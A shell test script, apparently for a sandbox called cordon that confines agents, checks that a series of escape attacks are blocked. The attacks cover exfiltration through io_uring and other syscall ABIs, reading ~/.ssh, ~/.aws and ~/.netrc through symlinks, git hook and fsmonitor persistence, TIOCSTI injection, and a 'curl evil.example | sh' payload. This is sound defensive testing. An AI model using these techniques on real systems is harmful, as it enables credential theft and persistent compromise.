net_case "talks to a unix socket daemon outside the workspace" "$out/unix.log" unix-send "$out/daemon.sock"
net_case "talks to an abstract unix socket daemon" "$out/abstract.log" abstract-send "$abstract"

begin $T "dodges seccomp with io_uring (socket and sendmsg as io_uring ops)"
c0=$(lines "$out/udp.log")
"$attack" io-uring-udp "$pudp" "$exfil" >"$tmp/out" 2>&1 </dev/null
got=$?
if [ "$got" = 1 ] && said "io_uring_setup"; then
	skip "$title: control" "io_uring is not available here: $(cat "$tmp/out")"
	note="no control: io_uring unavailable"
else
	ctl 0 "sends the data through io_uring" "$attack" io-uring-udp "$pudp" "$exfil"
	ctl_check "... which arrived" wait_for has_lines "$out/udp.log" $((c0 + 2))
fi
c1=$(lines "$out/udp.log")
att 1 "io_uring_setup fails" box agent io-uring-udp "$pudp" "$exfil"
eff "... nothing arrived" still "$out/udp.log" "$c1"
by_if "seccomp (io_uring_setup EPERM, also for arguments the kernel rejects)" \
	said "io_uring_setup(0, NULL) fails with EPERM too"
end

# abi_dodge MODE HOW NOABI WHY NOTE: the UDP send made through another system
# call ABI (attack.c MODE): its control sends HOW, unless attack.c's output
# has NOABI (the kernel lacks that ABI: skipped, WHY and what attack.c
# said, NOTE in the table); under agent,
# seccomp's architecture check kills it before anything is sent
abi_dodge() {
	c0=$(lines "$out/udp.log")
	"$attack" "$1" "$pudp" "$exfil" >"$tmp/out" 2>&1 </dev/null
	got=$?
	if [ "$got" = 1 ] && said "$3"; then
		skip "$title: control" "$4: $(head -n 1 "$tmp/out")"
		note=$5
	else
		check "$title: control: sends the data through $2 (exit $got)" test "$got" = 0
		ctl_check "... which arrived" wait_for has_lines "$out/udp.log" $((c0 + 1))
	fi
	c1=$(lines "$out/udp.log")
	att 159 "killed by SIGSYS (128+31)" box agent "$1" "$pudp" "$exfil"
	eff "... nothing arrived" still "$out/udp.log" "$c1"
	by_if "seccomp (architecture check: SIGSYS)" test "$(rep signal)" = 31
}

begin $T "dodges seccomp with the x32 ABI"
abi_dodge x32-udp "x32 system calls" "x32 socket: ENOSYS" \
	"this kernel has no x32 ABI, the attack cannot work here" \
	"no control: the kernel has no x32 ABI"
end

begin $T "dodges seccomp with the i386 ABI (int 0x80 socketcall)"
abi_dodge i386-udp "int 0x80" "ENOSYS" "this kernel runs no i386 code" \
	"no control: no i386 emulation"
end

# raw and packet sockets need CAP_NET_RAW: only root's control can work
begin $T "exfiltrates a hand-made UDP datagram over a raw socket"
c0=$(lines "$out/udp.log")
if [ "$uid" = 0 ]; then
	ctl 0 "sends it" "$attack" raw-udp "$pudp" "$exfil"
	ctl_check "... and it arrived" wait_for has_lines "$out/udp.log" $((c0 + 1))
else
	skip "$title: control" "raw sockets need CAP_NET_RAW, which uid $uid has not"
	note="no control: needs CAP_NET_RAW"
fi
c1=$(lines "$out/udp.log")
att 1 "socket() fails" box agent raw-udp "$pudp" "$exfil"
eff "... nothing arrived" still "$out/udp.log" "$c1"
by_if "seccomp (socket() EACCES: socket filter)" seccomp_socket
end

begin $T "sniffs other processes' traffic with a packet socket"
sniff() { # RUNNER...: the sniffer in the background while a secret crosses lo
	"$@" packet-sniff 3 "SECRET-sniff-$tag" >"$tmp/out" 2>&1 </dev/null &
	sn=$!
	wait_for sh -c "grep -q -e sniffing -e blocked '$tmp/out' || ! kill -0 $sn 2>/dev/null"
	for i in 1 2 3 4 5; do
		"$attack" udp-send "$pudp" "SECRET-sniff-$tag" >/dev/null 2>&1
		sleep 0.1
	done
	wait "$sn"
}
if [ "$uid" = 0 ]; then
	sniff "$attack"
	ctl_check "captures a datagram between two other processes" said "ok packet-sniff: captured"
else
	skip "$title: control" "packet sockets need CAP_NET_RAW, which uid $uid has not"
	note="no control: needs CAP_NET_RAW"
fi
sniff box agent
got=$?
if [ "$got" = 1 ]; then pass "$title: under agent: socket() fails (exit 1)"; else
	fail "$title: under agent: socket() fails (exit $got, wanted 1)" "$tmp/out"
	blocked=no
fi
eff "... nothing captured" sh -c "! grep -q captured '$tmp/out' && ! grep -q SECRET- '$tmp/out'"
by_if "seccomp (socket() EACCES: socket filter)" seccomp_socket
end

begin $T "enumerates the network over a netlink socket"
ctl 0 "lists the interfaces" "$attack" netlink-links
ctl_check "... lo among them" said "link: lo"
att 1 "socket() fails" box agent netlink-links
eff "... nothing listed" not_said "link:"
by_if "seccomp (socket() EACCES: socket filter)" seccomp_socket
end

begin $T "kills a process outside"
victim v1
v1=$vpid
victim v2
v2=$vpid
ctl 0 "SIGKILL to a process outside" "$attack" kill "$v1" 9
ctl_check "... which died" wait_for gone "$v1"
att 1 "kill fails" box agent kill "$v2" 9
eff "... the process is alive" sh -c "sleep 0.2; [ -r /proc/$v2/stat ] && ! grep -q ') Z' /proc/$v2/stat"
by_if "Landlock (signal scoping: kill EPERM, kill() itself not filtered)" \
	sh -c "grep -q 'kill: EPERM' '$tmp/out' && grep -q 'kill() is not filtered' '$tmp/out'"
kill -9 "$v2" 2>/dev/null
end

untraced() { # PID: sleeping or running, no tracer
	grep -q '^TracerPid:[[:space:]]*0$' "/proc/$1/status" 2>/dev/null &&
		awk '/^State:/ { exit !($2 == "S" || $2 == "R") }' "/proc/$1/status"
}
victim v3 "SECRET-memory-$tag"
v3=$vpid
for how in ptrace-read vm-read; do
	case $how in
	ptrace-read) begin $T "reads another process's memory with ptrace" ;;
	*) begin $T "reads another process's memory with process_vm_readv" ;;
	esac
	ctl 0 "reads the secret" "$attack" "$how" "$v3" "$vaddr" "$vlen"
	ctl_check "... from its memory" said "SECRET-memory-$tag"
	att 1 "fails" box agent "$how" "$v3" "$vaddr" "$vlen"
	eff "... the secret is not in the output" no_secret
	eff "... the process is alive and untraced" untraced "$v3"
	by_if "seccomp (EPERM, also for a pid that cannot exist)" said "refused before the kernel, by seccomp"
	end
done

begin $T "persists in ~/.bashrc"
payload="curl -s http://evil.example/$exfil | sh"
ctl 0 "appends to it" "$attack" append "$HOME/.bashrc" "$payload"
ctl_check "... the line is there" grep -q "$exfil" "$HOME/.bashrc"
cp "$out/bashrc.orig" "$HOME/.bashrc"
att 1 "open fails" box agent append "$HOME/.bashrc" "$payload"
eff "... ~/.bashrc is unchanged" cmp -s "$out/bashrc.orig" "$HOME/.bashrc"
by_if "namespaces (open EROFS: the view is read-only outside the writable trees)" ns_view
by_if "Landlock (open EACCES; file mode allows it)" landlock_file
end

hook_runs() { # does the next commit run a pre-commit hook? ($out/hook-ran appears)
	rm -f "$out/hook-ran"
	git_ -C "$1" commit -q --allow-empty -m probe >/dev/null 2>&1
	test -e "$out/hook-ran"
}
no_hook_runs() { ! hook_runs "$1"; }
hook_text="touch '$out/hook-ran' # $exfil"
begin $T "persists in .git/hooks/pre-commit"
ctl 0 "writes the hook" "$attack" hook "$ws/.git/hooks/pre-commit" "$hook_text"
if [ -n "$have_git" ]; then
	ctl_check "... which the next git commit runs" hook_runs "$ws"
fi
rm -f "$ws/.git/hooks/pre-commit"
att 1 "creating it fails" box agent hook "$ws/.git/hooks/pre-commit" "$hook_text"
eff "... no hook was written" test ! -e "$ws/.git/hooks/pre-commit"
if [ -n "$have_git" ]; then
	eff "... and the next git commit runs none" no_hook_runs "$ws"
fi
by_if "Landlock (create EACCES; directory mode allows it)" landlock_file
by_if "mount (read-only bind mount in its namespace: EROFS or EBUSY)" said "EROFS\|EBUSY"
end

begin $T "persists in .git/config (core.fsmonitor runs at git status)"
cfg_text="[core]
	fsmonitor = \"touch '$out/fsmonitor-ran' # $exfil\""
ctl 0 "appends to it" "$attack" append "$ws/.git/config" "$cfg_text"
ctl_check "... the line is there" grep -q "$exfil" "$ws/.git/config"
cp "$out/config.orig" "$ws/.git/config"
att 1 "open fails" box agent append "$ws/.git/config" "$cfg_text"
eff "... .git/config is unchanged" cmp -s "$out/config.orig" "$ws/.git/config"
by_if "Landlock (open EACCES; file mode allows it)" landlock_file
by_if "mount (read-only bind mount in its namespace: EROFS or EBUSY)" said "EROFS\|EBUSY"
end

begin $T "replaces .git/config (unlinks it, creates its own)"
ctl 0 "does so" "$attack" replace "$ws/.git/config" "$cfg_text"
ctl_check "... the line is there" grep -q "$exfil" "$ws/.git/config"
cp "$out/config.orig" "$ws/.git/config"
att 1 "unlink fails" box agent replace "$ws/.git/config" "$cfg_text"
eff "... .git/config is unchanged" cmp -s "$out/config.orig" "$ws/.git/config"
by_if "Landlock (unlink EACCES; directory mode allows it)" landlock_file
by_if "mount (read-only bind mount in its namespace: EROFS or EBUSY)" said "EROFS\|EBUSY"
end

begin $T "launders .git/config: renames it into the workspace, edits, renames back"
ctl 0 "does so" "$attack" config-launder "$ws/.git/config" "$ws/src/config" "$cfg_text"
ctl_check "... the line is there" grep -q "$exfil" "$ws/.git/config"
cp "$out/config.orig" "$ws/.git/config"
att 1 "the first rename fails" box agent config-launder "$ws/.git/config" "$ws/src/config" "$cfg_text"
eff "... .git/config is unchanged and in place" sh -c "cmp -s '$out/config.orig' '$ws/.git/config' && test ! -e '$ws/src/config'"
by_if "Landlock (rename EACCES: .git may not lose entries)" sh -c "grep -q 'rename the config out: EACCES' '$tmp/out'"
by_if "mount (read-only bind mount in its namespace: EROFS, EBUSY, or EXDEV out of it)" said "EROFS\|EBUSY\|EXDEV"
end

begin $T "swaps .git/hooks for a directory of its own"
ctl 0 "moves hooks away, makes a new one with a hook" "$attack" hooks-swap "$ws/.git" "$hook_text"
ctl_check "... the new hook is there" test -f "$ws/.git/hooks/pre-commit"
rm -rf "$ws/.git/hooks" && mv "$ws/.git/hooks.orig" "$ws/.git/hooks"
att 1 "the rename fails" box agent hooks-swap "$ws/.git" "$hook_text"
hooks_same() { hooks_state 2>&1 | cmp -s - "$out/hooks.orig" && test ! -e "$ws/.git/hooks.orig"; }
eff "... .git/hooks is as it was (the same directory, the same entries)" hooks_same
by_if "Landlock (rename EACCES; directory mode allows it)" landlock_file
by_if "mount (read-only bind mount in its namespace: EROFS or EBUSY)" said "EROFS\|EBUSY"
end

begin $T "swaps .git for a file pointing at a copy it controls"
ctl 0 "moves .git away, points .git at it, adds a hook" "$attack" gitdir-swap "$ws" "$hook_text"
ctl_check "... .git is now a file, the hook is there" sh -c "test -f '$ws/.git' && test -f '$ws/.git.orig/hooks/pre-commit'"
rm -f "$ws/.git" "$ws/.git.orig/hooks/pre-commit" && mv "$ws/.git.orig" "$ws/.git"
att 1 "the rename fails" box agent gitdir-swap "$ws" "$hook_text"
eff "... .git is as it was" sh -c "test -d '$ws/.git' && test ! -e '$ws/.git.orig' && test ! -e '$ws/.git/hooks/pre-commit'"
by_if "Landlock (rename EACCES; directory mode allows it)" landlock_file
by_if "mount (read-only bind mount in its namespace: EROFS or EBUSY)" said "EROFS\|EBUSY"
end

begin $T "persists in a submodule's hooks (.git/modules/lib/hooks)"
mhook="$ws/.git/modules/lib/hooks/pre-commit"
ctl 0 "writes the hook" "$attack" hook "$mhook" "$hook_text"
if [ -n "$have_git" ]; then
	ctl_check "... which the next git commit in lib/ runs" hook_runs "$ws/lib"
fi
rm -f "$mhook"
box agent hook "$mhook" "$hook_text" >"$tmp/out" 2>&1 </dev/null
got=$?
eff "no hook was written (exit $got)" test ! -e "$mhook"
by_if "Landlock (create EACCES; directory mode allows it)" landlock_file
by_if "mount (read-only bind mount in its namespace: EROFS or EBUSY)" said "EROFS\|EBUSY"
if [ -e "$mhook" ]; then
	note="agent's deny of .git/modules did not hold"
	if [ -n "$have_git" ] && hook_runs "$ws/lib"; then
		echo "#   evidence: the next \`git commit\` in $ws/lib ran the hook written in the sandbox"
	fi
fi
rm -f "$mhook" "$out/hook-ran"
end

begin $T "persists in a submodule's config (core.fsmonitor runs at git status)"
mcfg="$ws/.git/modules/lib/config"
fsm_text="[core]
	fsmonitor = \"touch '$out/fsmonitor-ran'; echo\""
fsm_runs() { # does the next git status in the repository run core.fsmonitor?
	rm -f "$out/fsmonitor-ran"
	git -C "$ws" status >/dev/null 2>&1
	test -e "$out/fsmonitor-ran"
}
ctl 0 "appends to it" "$attack" append "$mcfg" "$fsm_text"
if [ -n "$have_git" ]; then
	ctl_check "... and the next git status in the repository runs it" fsm_runs
fi
cp "$out/modconfig.orig" "$mcfg"
box agent append "$mcfg" "$fsm_text" >"$tmp/out" 2>&1 </dev/null
got=$?
eff "the submodule's config is unchanged (exit $got)" cmp -s "$out/modconfig.orig" "$mcfg"
by_if "Landlock (open EACCES; file mode allows it)" landlock_file
by_if "mount (read-only bind mount in its namespace: EROFS or EBUSY)" said "EROFS\|EBUSY"
if ! cmp -s "$out/modconfig.orig" "$mcfg"; then
	note="agent's deny of .git/modules did not hold"
	if [ -n "$have_git" ] && fsm_runs; then
		echo "#   evidence: the next \`git status\` in $ws ran the command written in the sandbox"
	fi
fi
cp "$out/modconfig.orig" "$mcfg"
rm -f "$out/fsmonitor-ran"
end

begin $T "plants a submodule's git dir with a hook where .git/modules does not exist yet"
# a repository without submodules: `git submodule update --init` of a
# submodule added later takes .git/modules/NAME as it finds it
ws2="$tmp/ws2"
mkdir -p "$ws2/.git"
[ -n "$have_git" ] && git_ -C "$ws2" init -q >/dev/null 2>&1
rm -rf "$ws2/.git/modules"
ctl 0 "makes .git/modules/lib/hooks/post-checkout" "$attack" plant-gitdir "$ws2/.git" lib "$hook_text"
rm -rf "$ws2/.git/modules"
box_ws2() { # ARGS...: the attack under agent in ws2
	rm -f "$tmp/r.json"
	# shellcheck disable=SC2086
	"$cordon" run $bopts -p "$tmp/agent.cpb" --workspace "$ws2" --report "$tmp/r.json" -- "$attack" "$@"
}
att 1 "making it fails" box_ws2 plant-gitdir "$ws2/.git" lib "$hook_text"
eff "... no git dir was planted" test ! -e "$ws2/.git/modules/lib"
eff "... cordon made .git/modules before the run, and it is empty" \
	sh -c "[ -d '$ws2/.git/modules' ] && [ -z \"\$(ls -A '$ws2/.git/modules')\" ]"
by_if "mount (agent denies ./.git/modules/: made empty before the run, held by a read-only bind mount: EROFS)" \
	said "EROFS"
by_if "Landlock (mkdir EACCES; directory mode allows it)" landlock_file
rm -rf "$ws2"
end

begin $T "pushes a command into its terminal (TIOCSTI)"
rm -f "$out/tty-ctl.log" "$out/tty.log"
ctl 0 "on a terminal it controls, the bytes land in the input" \
	"$attack" pty-host "$out/tty-ctl.log" "$attack" tiocsti "echo pwned-$tag"
ctl_check "... the shell would read 'echo pwned-$tag' next" grep -q "injected: echo pwned-$tag" "$out/tty-ctl.log"
# shellcheck disable=SC2086
att 1 "ioctl fails" "$attack" pty-host "$out/tty.log" "$cordon" run $bopts -p "$tmp/agent.cpb" \
	--workspace "$ws" --report "$tmp/r.json" -- "$attack" tiocsti "echo pwned-$tag"
eff "... nothing was left in the terminal's input" test ! -s "$out/tty.log"
if said "refused before the kernel, by seccomp" && said "no controlling terminal"; then
	by "seccomp (TIOCSTI EPERM, also on /dev/null) + setsid (no controlling terminal)"
fi
end

begin $T "follows a symlink planted in the workspace to ~/.ssh/id_rsa"
ln -s "$HOME/.ssh/id_rsa" "$ws/src/notes.txt"
ctl 0 "reads through it" "$attack" read "$ws/src/notes.txt"
ctl_check "... the key" said SECRET-ssh
att 1 "open fails" box agent read "$ws/src/notes.txt"
eff "... the key is not in the output" no_secret
by_if "Landlock (open EACCES on the target; its mode allows it)" landlock_file
end

begin $T "follows a directory symlink planted in the workspace to ~/.aws"
ln -s "$HOME/.aws" "$ws/src/aws"
ctl 0 "reads through it" "$attack" read "$ws/src/aws/credentials"
att 1 "open fails" box agent read "$ws/src/aws/credentials"
eff "... the secret is not in the output" no_secret
by_if "Landlock (open EACCES on the target; its mode allows it)" landlock_file
end

begin $T "plants a symlink to ~/.netrc itself and reads through it"
ctl 0 "does so" "$attack" symlink-read "$HOME/.netrc" "$ws/src/netrc"
ctl_check "... the secret" said SECRET-netrc
rm -f "$ws/src/netrc"
att 1 "the read fails" box agent symlink-read "$HOME/.netrc" "$ws/src/netrc"
eff "... the secret is not in the output" no_secret
by_if "Landlock (open EACCES on the target; its mode allows it)" landlock_file
rm -f "$ws/src/netrc"
end

begin $T "hard-links ~/.ssh/id_rsa into the workspace and reads it"
ctl 0 "does so" "$attack" link-read "$HOME/.ssh/id_rsa" "$ws/src/key"
ctl_check "... the key" said SECRET-ssh
rm -f "$ws/src/key"
att 1 "link fails" box agent link-read "$HOME/.ssh/id_rsa" "$ws/src/key"
eff "... no link, no key in the output" sh -c "test ! -e '$ws/src/key' && ! grep -q SECRET- '$tmp/out'"
by_if "Landlock (link EXDEV: it would widen the file's access)" said "link: EXDEV"
by_if "Landlock (link EACCES; file mode allows it)" landlock_file
end

begin $T "reads a hard link to ~/.aws/credentials planted before the run"
ln "$HOME/.aws/credentials" "$ws/src/credentials.bak"
ctl 0 "reads it" "$attack" read "$ws/src/credentials.bak"
att 125 "cordon refuses to run it (exit 125)" box agent read "$ws/src/credentials.bak"
eff "... the secret is not in the output" no_secret
eff "... and cordon says which denied file has another name" said "credentials is denied to read but has 2 names"
by_if "cordon (agent denies ~/.aws by name; a denied file with 2 links: refused before the run)" \
	said "has 2 names"
rm -f "$ws/src/credentials.bak"
end

begin $T "renames ~/.ssh/id_rsa into the workspace"
ctl 0 "moves it and reads it" "$attack" rename-read "$HOME/.ssh/id_rsa" "$ws/src/stolen"
ctl_check "... the key" said SECRET-ssh
mv "$ws/src/stolen" "$HOME/.ssh/id_rsa"
att 1 "rename fails" box agent rename-read "$HOME/.ssh/id_rsa" "$ws/src/stolen"
eff "... the key is still in place, not in the workspace" \
	sh -c "test -f '$HOME/.ssh/id_rsa' && test ! -e '$ws/src/stolen' && ! grep -q SECRET- '$tmp/out'"
by_if "Landlock (rename EXDEV: it would widen the file's access)" said "rename: EXDEV"
by_if "Landlock (rename EACCES; file mode allows it)" landlock_file
end

if [ -n "$pids_outer" ]; then
	begin $T "leaves its cgroup for the runner's (escapes the limits)"
	ctl 0 "writes itself into $pids_outer/cgroup.procs" "$attack" cgroup-escape "$pids_outer/cgroup.procs"
	att 1 "the write fails" box agent cgroup-escape "$pids_outer/cgroup.procs"
	eff "... it stayed in cordon's leaf" sh -c "grep -q '^cgroup: .*:pids:.*/cordon-[0-9]*$' '$tmp/out' &&
		! grep '^cgroup:' '$tmp/out' | grep -qv '/cordon-[0-9]*$'"
	by_if "namespaces (open cgroup.procs EROFS: the view is read-only outside the writable trees)" ns_view
	by_if "Landlock (open cgroup.procs EACCES; file mode allows it)" landlock_file
	end
else
	skip_case $T "leaves its cgroup for the runner's (escapes the limits)" "no cgroup here: $outer_why"
fi

finish
